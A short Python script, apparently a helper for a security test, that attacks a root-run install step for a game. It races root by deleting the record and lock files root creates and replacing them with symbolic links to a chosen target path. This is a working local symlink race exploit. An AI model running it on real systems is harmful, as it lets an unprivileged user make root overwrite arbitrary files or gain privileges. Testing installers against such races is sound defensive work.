"""A member of the group games attacking root's install step: every record
file that root makes is swapped at once for a symbolic link to TARGET, and
every name is kept missing, so that root makes it again.

Usage: swap_links.py FOLDER TARGET   (says "ready", then runs until killed)
"""
import os
import stat
import sys

folder, target = sys.argv[1], sys.argv[2]
names = ["tavola7.lock", "tavola7.log", "tavrec7.txt", "ntavrec7.txt"]
os.chdir(folder)
print("ready", flush=True)
while True:
    for name in names:
        try:
            mode = os.lstat(name).st_mode
            os.unlink(name)
            if stat.S_ISREG(mode):
                os.symlink(target, name)
        except OSError:
            pass
